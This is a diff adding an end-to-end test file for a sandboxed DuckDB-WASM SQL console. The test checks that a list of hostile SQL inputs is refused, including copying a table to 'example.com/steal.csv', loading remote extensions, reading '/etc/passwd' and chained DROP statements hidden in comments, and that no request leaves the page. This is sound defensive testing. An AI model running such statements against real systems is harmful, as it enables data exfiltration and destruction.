@@ -1,0 +1,449 @@
+// The SQL console in Debian's Chromium: a shared link runs its query; the CSV downloads hold the whole result
+// and equal DuckDB's answer to the same SQL on the Parquet; every example question runs; hostile statements
+// are refused or harmless, without a single request leaving the page, and the console keeps answering; a
+// runaway query can be stopped and a huge one is limited; the explorer still loads data after the seal.
+import { readFile } from 'node:fs/promises';
+import type { DuckDBConnection } from '@duckdb/node-api';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import type { Manifest } from '../../src/lib/manifest.ts';
+import { GENERAL_EXAMPLES, SQL_EXAMPLES } from '../../src/lib/sqlexamples.ts';
+import { launch, openPage, type Watched } from './browser.ts';
+import { openSnapshot, parquet, queryRows } from './duckdb.ts';
+
+const baseUrl = inject('baseUrl');
+const distDir = inject('distDir');
+const snapshot = inject('defaultSnapshot');
+/** Each test opens a fresh page that starts DuckDB-WASM (twice: the explorer's engine and the console's). */
+const T = 300_000;
+
+let browser: Browser;
+let con: DuckDBConnection;
+let manifest: Manifest;
+let dir: string;
+
+beforeAll(async () => {
+  browser = await launch();
+  ({ con, manifest, dir } = await openSnapshot(distDir, snapshot));
+  // The reference: the same tables as views over the published Parquet, and the console's `codes` table.
+  for (const d of manifest.datasets)
+    await con.run(`CREATE OR REPLACE VIEW "${d.id}" AS SELECT * FROM ${parquet(dir, d.file)}`);
+  await con.run(
+    `CREATE OR REPLACE TABLE codes (codelist VARCHAR, code VARCHAR, label_nl VARCHAR, label_en VARCHAR,
+       description_nl VARCHAR, description_en VARCHAR)`,
+  );
+  const app = await con.createAppender('codes');
+  for (const [id, list] of Object.entries(manifest.codelists))
+    for (const c of list.codes) {
+      for (const v of [
+        id,
+        c.code,
+        c.label.nl,
+        c.label.en || c.label.nl,
+        c.description.nl,
+        c.description.en || c.description.nl,
+      ])
+        app.appendVarchar(v);
+      app.endRow();
+    }
+  app.closeSync();
+});
+afterAll(async () => {
+  await browser?.close();
+});
+
+const sqlUrl = (sql?: string, extra = '') =>
+  `${baseUrl}/#/sql?snapshot=${snapshot}${sql === undefined ? '' : `&q=${encodeURIComponent(sql)}`}${extra}`;
+
+const status = (page: Page) => page.getByTestId('sql-status');
+
+async function runs(page: Page): Promise<number> {
+  return Number(await status(page).getAttribute('data-runs'));
+}
+
+async function waitRun(page: Page, before: number, timeout = 120_000): Promise<string> {
+  await page.waitForFunction(
+    (n) => Number(document.querySelector<HTMLElement>('[data-testid=sql-status]')?.dataset.runs) > n,
+    before,
+    { timeout },
+  );
+  return (await status(page).getAttribute('data-outcome')) ?? '';
+}
+
+/** Opens the console (fresh page), optionally with a query in the URL, and waits until it is ready. */
+async function open(w: Watched, sql?: string): Promise<void> {
+  await w.page.goto(sqlUrl(sql));
+  await w.page.getByRole('button', { name: 'Uitvoeren' }).and(w.page.locator(':enabled')).waitFor({ timeout: 180_000 });
+  if (sql !== undefined) await waitRun(w.page, 0);
+}
+
+/** Runs a query the way a shared link does: by putting it in the URL of the open page. */
+async function runViaUrl(page: Page, sql: string, timeout?: number): Promise<string> {
+  const before = await runs(page);
+  await page.evaluate(
+    ([s, snap]) => {
+      location.hash = `#/sql?snapshot=${snap}&q=${encodeURIComponent(s)}`;
+    },
+    [sql, snapshot],
+  );
+  return waitRun(page, before, timeout);
+}
+
+async function resultTable(page: Page): Promise<string[][]> {
+  return page
+    .locator('.sql-result table tr')
+    .evaluateAll((trs) => trs.map((tr) => [...tr.children].map((c) => c.textContent!.trim())));
+}
+
+async function download(page: Page, name: RegExp): Promise<{ path: string; filename: string }> {
+  const [dl] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name }).click()]);
+  return { path: await dl.path(), filename: dl.suggestedFilename() };
+}
+
+/** DuckDB's answer in Node as the strings a CSV holds (numbers as JS prints them, dates ISO). */
+async function reference(sql: string): Promise<string[][]> {
+  return (await queryRows(con, sql)).map((r) => Object.values(r).map((v) => (v === null ? '' : String(v))));
+}
+
+async function csvRows(path: string, delim: ',' | ';'): Promise<string[][]> {
+  const rows = await queryRows(
+    con,
+    `SELECT * FROM read_csv('${path}', header = true, all_varchar = true, delim = '${delim}', quote = '"', escape = '"')`,
+  );
+  return rows.map((r) => Object.values(r).map((v) => (v === null ? '' : String(v))));
+}
+
+describe('the SQL console', () => {
+  it('runs the query of a shared link; both CSV downloads equal DuckDB on the Parquet', { timeout: T }, async () => {
+    const w = await openPage(browser, baseUrl);
+    const sql = `SELECT peildatum, sector, indicator, aantal, percentage
+FROM wachtlijsten
+WHERE aantal IS NOT NULL
+ORDER BY peildatum, sector, indicator`;
+    await open(w, sql);
+    expect(await w.page.getByRole('textbox', { name: 'SQL' }).innerText()).toBe(sql);
+    const ref = await reference(sql.replace('SELECT peildatum', "SELECT strftime(peildatum, '%Y-%m-%d')"));
+    await expect(status(w.page).innerText()).resolves.toMatch(new RegExp(`^${ref.length} rijen in [\\d.]+ ms$`));
+    const table = await resultTable(w.page);
+    expect(table[0]).toEqual(['peildatum', 'sector', 'indicator', 'aantal', 'percentage']);
+    expect(table.length - 1).toBe(ref.length);
+
+    const csv = await download(w.page, /^Download CSV$/);
+    expect(csv.filename).toMatch(new RegExp(`^sql_${snapshot}_\\d{4}-\\d{2}-\\d{2}\\.csv$`));
+    expect(await csvRows(csv.path, ',')).toEqual(ref);
+    const raw = await readFile(csv.path, 'utf8');
+    expect(raw.split('\r\n')[0]).toBe('peildatum,sector,indicator,aantal,percentage');
+
+    const excel = await download(w.page, /Nederlandse Excel/);
+    expect(excel.filename).toMatch(/_excel-nl\.csv$/);
+    const excelRaw = await readFile(excel.path, 'utf8');
+    expect(excelRaw.charCodeAt(0)).toBe(0xfeff);
+    expect(excelRaw).toContain(';40,2');
+    const excelRows = (await csvRows(excel.path, ';')).map((r) => r.map((v) => v.replace(/^(-?\d+),(\d+)$/, '$1.$2')));
+    expect(excelRows).toEqual(ref);
+    w.assertClean();
+    await w.context.close();
+  });
+
+  it('shows the first 1,000 rows and downloads all of them', { timeout: T }, async () => {
+    const w = await openPage(browser, baseUrl);
+    const sql = 'SELECT range AS i, range * 0.5 AS helft FROM range(2500) ORDER BY i';
+    await open(w, sql);
+    await expect(status(w.page).innerText()).resolves.toMatch(/^2\.500 rijen in/);
+    await expect(w.page.locator('.sql-results .note').innerText()).resolves.toContain('eerste 1.000 van 2.500 rijen');
+    expect((await resultTable(w.page)).length - 1).toBe(1000);
+    const csv = await download(w.page, /^Download CSV$/);
+    expect(await csvRows(csv.path, ',')).toEqual(await reference(sql));
+    w.assertClean();
+    await w.context.close();
+  });
+
+  it(
+    'is an accessible editor: labelled, Ctrl+Enter runs, names complete, errors point at their place',
+    { timeout: T },
+    async () => {
+      const w = await openPage(browser, baseUrl);
+      await open(w);
+      const page = w.page;
+      const editor = page.getByRole('textbox', { name: 'SQL' });
+      await editor.click();
+      await page.keyboard.press('Control+a');
+      await page.keyboard.insertText('SELECT count(*) AS n FROM ');
+      await page.keyboard.type('wachtl');
+      const option = page.locator('.cm-tooltip-autocomplete [role=option]', { hasText: 'wachtlijsten' });
+      await option.first().waitFor();
+      // CodeMirror ignores Enter for a moment after the list opens (so fast typing does not pick by accident).
+      await page.waitForTimeout(300);
+      await page.keyboard.press('Enter');
+      await expect(editor.innerText()).resolves.toBe('SELECT count(*) AS n FROM wachtlijsten');
+      let before = await runs(page);
+      await page.keyboard.press('Control+Enter');
+      expect(await waitRun(page, before)).toBe('done');
+      await expect(status(page).innerText()).resolves.toMatch(/^1 rij in/);
+      const rows = manifest.datasets.find((d) => d.id === 'wachtlijsten')!.rows;
+      expect((await resultTable(page))[1]).toEqual([String(rows)]);
+      // The query is in the URL, so the page can be shared as it is.
+      expect(new URLSearchParams(new URL(page.url()).hash.split('?')[1]).get('q')).toBe(
+        'SELECT count(*) AS n FROM wachtlijsten',
+      );
+
+      // A column that does not exist: DuckDB's message, and the line and column it points at.
+      await editor.click();
+      await page.keyboard.press('Control+a');
+      await page.keyboard.insertText('SELECT sector,\n       nocol\nFROM wachtlijsten');
+      before = await runs(page);
+      await page.getByRole('button', { name: 'Uitvoeren' }).click();
+      expect(await waitRun(page, before)).toBe('error');
+      const alert = page.getByRole('alert');
+      await expect(alert.innerText()).resolves.toMatch(/nocol/);
+      await expect(alert.innerText()).resolves.toContain('Regel 2, kolom 8');
+      await expect(alert.innerText()).resolves.toContain('Binder');
+      await page.getByRole('button', { name: 'Ga naar deze plek in de editor' }).click();
+      await expect(page.evaluate(() => document.activeElement?.getAttribute('aria-label'))).resolves.toBe('SQL');
+      await expect(page.locator('.cm-sql-error').innerText()).resolves.toBe('nocol');
+
+      // In English the button is "Run".
+      await page.getByRole('button', { name: 'Switch to English' }).click();
+      await page.getByRole('button', { name: 'Run', exact: true }).waitFor();
+      w.assertClean();
+      await w.context.close();
+    },
+  );
+
+  it('answers every example question with rows, as DuckDB does on the Parquet', { timeout: T }, async () => {
+    const w = await openPage(browser, baseUrl);
+    await open(w);
+    const examples = [...SQL_EXAMPLES, ...GENERAL_EXAMPLES];
+    expect(examples.length).toBeGreaterThanOrEqual(20);
+    for (const ex of examples) {
+      const link = w.page.locator(`li[data-example="${ex.id}"] a`);
+      const before = await runs(w.page);
+      await link.click();
+      expect(await waitRun(w.page, before), ex.id).toBe('done');
+      expect(await w.page.getByRole('textbox', { name: 'SQL' }).innerText(), ex.id).toBe(ex.sql);
+      const ref = await queryRows(con, ex.sql);
+      expect(ref.length, ex.id).toBeGreaterThan(0);
+      const shown = await resultTable(w.page);
+      expect(shown.length - 1, ex.id).toBe(ref.length);
+      expect(shown[0], ex.id).toEqual(Object.keys(ref[0]));
+    }
+    w.assertClean();
+    await w.context.close();
+  });
+});
+
+type Expect = 'refused' | 'error' | 'harmless';
+
+// Every kind of statement the console must not run, file and URL reads, extension tricks, settings, and
+// statements hiding behind comments or other statements. `error`: a read statement that the sealed engine
+// refuses when it runs (no file system, no extensions).
+const HOSTILE: [string, Expect][] = [
+  ["ATTACH 'https://example.com/evil.duckdb' AS evil", 'refused'],
+  ["ATTACH ':memory:' AS scratch", 'refused'],
+  ['DETACH scratch', 'refused'],
+  ["COPY wachtlijsten TO 'https://example.com/steal.csv'", 'refused'],
+  ["COPY (SELECT 1) TO '/tmp/x.csv'", 'refused'],
+  ["EXPORT DATABASE '/tmp/dump'", 'refused'],
+  ["IMPORT DATABASE 'https://example.com/dump'", 'refused'],
+  ['INSTALL httpfs', 'refused'],
+  ["INSTALL json FROM 'https://example.com/extensions'", 'refused'],
+  ['LOAD httpfs', 'refused'],
+  ["LOAD 'https://example.com/evil.duckdb_extension.wasm'", 'refused'],
+  ['SET enable_external_access = true', 'refused'],
+  ['SET lock_configuration = false', 'refused'],
+  ["SET memory_limit = '100GB'", 'refused'],
+  ['RESET ALL', 'refused'],
+  ["SET search_path = 'main'", 'refused'],
+  [
+    "SET autoinstall_known_extensions = true; SET autoload_known_extensions = true; SELECT * FROM read_parquet('https://example.com/x.parquet')",
+    'refused',
+  ],
+  ['PRAGMA enable_profiling', 'refused'],
+  ["PRAGMA table_info('wachtlijsten')", 'refused'],
+  ['CREATE TABLE stolen AS SELECT * FROM wachtlijsten', 'refused'],
+  ['CREATE MACRO m(x) AS x + 1', 'refused'],
+  ["CREATE SECRET (TYPE http, BEARER_TOKEN 'x')", 'refused'],
+  ["INSERT INTO wachtlijsten (sector) VALUES ('x')", 'refused'],
+  ['UPDATE rechtmatigheid SET bedrag = 0', 'refused'],
+  ['DELETE FROM wachtlijsten', 'refused'],
+  ['DROP TABLE wachtlijsten', 'refused'],
+  ['ALTER TABLE wachtlijsten RENAME TO w', 'refused'],
+  ['CALL pragma_version()', 'refused'],
+  ['CHECKPOINT', 'refused'],
+  ['USE main', 'refused'],
+  ['SELECT 1; DROP TABLE wachtlijsten', 'refused'],
+  ['SELECT 1 /* ; */; DROP TABLE rechtmatigheid', 'refused'],
+  ["SELECT ';'; DELETE FROM wachtlijsten", 'refused'],
+  ['/* only a comment */ DROP TABLE wachtlijsten -- SELECT 1', 'refused'],
+  ['-- SELECT 1\nDELETE FROM wachtlijsten', 'refused'],
+  ['/* nested /* comment */ SELECT 1 */ DROP TABLE wachtlijsten', 'refused'],
+  ['WITH x AS (SELECT 1) INSERT INTO wachtlijsten (aantal) SELECT * FROM x', 'refused'],
+  ['EXPLAIN ANALYZE DROP TABLE wachtlijsten', 'refused'],
+  ["SELECT * FROM query('DROP TABLE wachtlijsten')", 'refused'],
+  ['SELECT 1\u0000; DROP TABLE wachtlijsten', 'refused'],
+  ["SELECT * FROM read_csv('https://example.com/data.csv')", 'error'],
+  ["SELECT * FROM 'http://example.com/x.csv'", 'error'],
+  ["SELECT * FROM read_parquet('/etc/passwd')", 'error'],
+  ["SELECT * FROM read_text('/etc/passwd')", 'error'],
+  ["SELECT * FROM read_blob('https://example.com/')", 'error'],
+  ["SELECT * FROM read_json('https://example.com/a.json')", 'error'],
+  ["SELECT * FROM glob('*')", 'error'],
+  [`SELECT * FROM sniff_csv('data/${'e2e-2024-12'}/manifest.json')`, 'error'],
+  ['SELECT * FROM arrow_scan(1, 2, 3)', 'error'],
+  ["SELECT current_setting('enable_external_access') AS open", 'harmless'],
+  ['SELECT * FROM duckdb_extensions() WHERE loaded', 'harmless'],
+];
+
+describe('hostile statements', () => {
+  it(
+    `refuses or disarms all ${HOSTILE.length}, with an alert, no request, and keeps answering`,
+    { timeout: T },
+    async () => {
+      const w = await openPage(browser, baseUrl);
+      await open(w);
+      const page = w.page;
+      // From here on nothing may be fetched at all: every table is in the engine already.
+      const requests: string[] = [];
+      page.on('request', (r) => requests.push(r.url()));
+      const normal = 'SELECT count(*) AS n FROM rechtmatigheid';
+      const rows = String(manifest.datasets.find((d) => d.id === 'rechtmatigheid')!.rows);
+      const seen: string[] = [];
+      for (const [sql, kind] of HOSTILE) {
+        const outcome = await runViaUrl(page, sql);
+        const alert = page.getByRole('alert');
+        if (kind === 'harmless') {
+          expect(outcome, sql).toBe('done');
+        } else {
+          expect(outcome, sql).toBe(kind === 'refused' ? 'refused' : 'error');
+          await expect(alert.isVisible(), sql).resolves.toBe(true);
+          const text = await alert.innerText();
+          expect(text.length, sql).toBeGreaterThan(20);
+          seen.push(
+            `${sql.replaceAll('\n', '\\n').replaceAll('\u0000', '\\0')} → ${text.split('\n').filter(Boolean).slice(0, 2).join(' / ')}`,
+          );
+        }
+        expect(await runViaUrl(page, normal), `${sql}, then a normal query`).toBe('done');
+        expect((await resultTable(page))[1], sql).toEqual([rows]);
+        expect(requests, sql).toEqual([]);
+      }
+      // The harmless ones show what the seal did.
+      expect(await runViaUrl(page, "SELECT current_setting('enable_external_access') AS open")).toBe('done');
+      expect((await resultTable(page))[1]).toEqual(['false']);
+      // Nothing changed: every table has its rows, no database was attached, the configuration is locked.
+      const check = `SELECT (SELECT count(*) FROM wachtlijsten) AS w, (SELECT count(*) FROM rechtmatigheid) AS r,
+      (SELECT count(*) FROM duckdb_databases() WHERE NOT internal) AS dbs,
+      current_setting('lock_configuration') AS locked, current_setting('autoload_known_extensions') AS autoload`;
+      expect(await runViaUrl(page, check)).toBe('done');
+      const w0 = String(manifest.datasets.find((d) => d.id === 'wachtlijsten')!.rows);
+      expect((await resultTable(page))[1]).toEqual([w0, rows, '1', 'true', 'false']);
+      expect(requests).toEqual([]);
+      console.log(`hostile statements and what the page said:\n${seen.join('\n')}`);
+      w.assertClean();
+      await w.context.close();
+    },
+  );
+
+  it('stops runaway queries on request, stays responsive, and answers the next query', { timeout: T }, async () => {
+    const w = await openPage(browser, baseUrl);
+    await open(w);
+    const page = w.page;
+    const start = async (sql: string) => {
+      const before = await runs(page);
+      await page.evaluate(
+        ([s, snap]) => {
+          location.hash = `#/sql?snapshot=${snap}&q=${encodeURIComponent(s)}`;
+        },
+        [sql, snapshot],
+      );
+      await page.waitForFunction(
+        () => document.querySelector<HTMLElement>('[data-testid=sql-status]')?.dataset.outcome === 'running',
+      );
+      return before;
+    };
+    // A cross join of 10^11 rows: DuckDB cancels it between slices of work.
+    let before = await start('SELECT count(*) FROM range(1000000) a, range(100000) b');
+    await page.waitForTimeout(1500);
+    await page.getByRole('button', { name: 'Stop' }).click();
+    expect(await waitRun(page, before, 30_000)).toBe('cancelled');
+    await expect(status(page).innerText()).resolves.toMatch(/gestopt/);
+    expect(await runViaUrl(page, 'SELECT 41 AS bijna')).toBe('done');
+
+    // A nested-loop join that finds nothing works for minutes inside one slice: no cancel reaches it, so
+    // the console's own engine is terminated and prepared again. The page stays responsive throughout.
+    before = await start('SELECT count(*) FROM range(1000000) a, range(1000000) b WHERE a.range + b.range = -1');
+    await page.waitForTimeout(1500);
+    const t0 = Date.now();
+    await page.evaluate(() => new Promise((r) => requestAnimationFrame(r)));
+    expect(Date.now() - t0).toBeLessThan(1000);
+    await expect(page.getByRole('button', { name: 'Uitvoeren' }).isDisabled()).resolves.toBe(true);
+    await page.getByRole('button', { name: 'Stop' }).focus();
+    await page.keyboard.press('Enter');
+    expect(await waitRun(page, before, 30_000)).toBe('cancelled');
+    await expect(status(page).innerText()).resolves.toMatch(/hard gestopt/);
+    await expect(page.evaluate(() => document.activeElement === document.body)).resolves.toBe(false);
+    await page.getByRole('button', { name: 'Uitvoeren' }).and(page.locator(':enabled')).waitFor({ timeout: 180_000 });
+    expect(await runViaUrl(page, 'SELECT count(*) AS n FROM wachtlijsten')).toBe('done');
+    expect((await resultTable(page))[1]).toEqual([
+      String(manifest.datasets.find((d) => d.id === 'wachtlijsten')!.rows),
+    ]);
+    w.assertClean();
+    await w.context.close();
+  });
+
+  it('limits a huge result: at most 1,000,000 rows fetched, 1,000 drawn, and says so', { timeout: T }, async () => {
+    const w = await openPage(browser, baseUrl);
+    await open(w);
+    const page = w.page;
+    expect(await runViaUrl(page, 'SELECT * FROM range(3000) a, range(1000) b')).toBe('done');
+    await expect(status(page).innerText()).resolves.toMatch(/^1\.000\.000 rijen in/);
+    await expect(page.locator('.sql-results .note.warning').innerText()).resolves.toContain(
+      'alleen de eerste 1.000.000 rijen',
+    );
+    expect((await resultTable(page)).length - 1).toBe(1000);
+    expect(await runViaUrl(page, 'SELECT 7 AS x')).toBe('done');
+    w.assertClean();
+    await w.context.close();
+  });
+});
+
+describe('the seal and the rest of the site', () => {
+  it(
+    'the console’s engine is sealed before its tables go in, and the explorer works next to it',
+    { timeout: T },
+    async () => {
+      const w = await openPage(browser, baseUrl);
+      const page = w.page;
+      await page.goto(`${baseUrl}/#/dataset/wachtlijsten?snapshot=${snapshot}`);
+      await page.locator('main table').first().waitFor({ timeout: 180_000 });
+      await page.getByRole('link', { name: 'SQL', exact: true }).click();
+      await page.getByRole('button', { name: 'Uitvoeren' }).and(page.locator(':enabled')).waitFor({ timeout: 180_000 });
+      // Sealed (and locked) before any dataset was inserted, yet every table is there: Arrow insertion works
+      // under the seal, so datasets could equally load lazily afterwards.
+      const sql = `SELECT current_setting('enable_external_access') AS ext, current_setting('lock_configuration') AS locked,
+      current_setting('memory_limit') AS mem, (SELECT count(*) FROM duckdb_tables() WHERE schema_name = 's_${snapshot.replace(/[^A-Za-z0-9_]/g, '_')}') AS tables`;
+      expect(await runViaUrl(page, sql)).toBe('done');
+      const [ext, locked, mem, tables] = (await resultTable(page))[1];
+      expect([ext, locked, tables]).toEqual(['false', 'true', String(manifest.datasets.length)]);
+      expect(mem).toMatch(/^1[.,]\d+ GiB$/);
+      for (const id of ['rechtmatigheid', 'zorgkantoren']) {
+        await page.goto(`${baseUrl}/#/dataset/${id}?snapshot=${snapshot}`);
+        await page.locator('main table').first().waitFor({ timeout: 60_000 });
+        await expect(page.getByRole('alert').count(), id).resolves.toBe(0);
+      }
+      w.assertClean();
+      await w.context.close();
+    },
+  );
+
+  it('the home page does not load CodeMirror or the engine', { timeout: T }, async () => {
+    const w = await openPage(browser, baseUrl);
+    const scripts: string[] = [];
+    w.page.on('request', (r) => scripts.push(r.url()));
+    await w.page.goto(`${baseUrl}/`);
+    await w.page.locator('.card').first().waitFor();
+    await w.page.waitForTimeout(500);
+    expect(scripts.filter((u) => /sqleditor|sqlconsole/.test(u))).toEqual([]);
+    w.assertClean();
+    await w.context.close();
+  });
+});
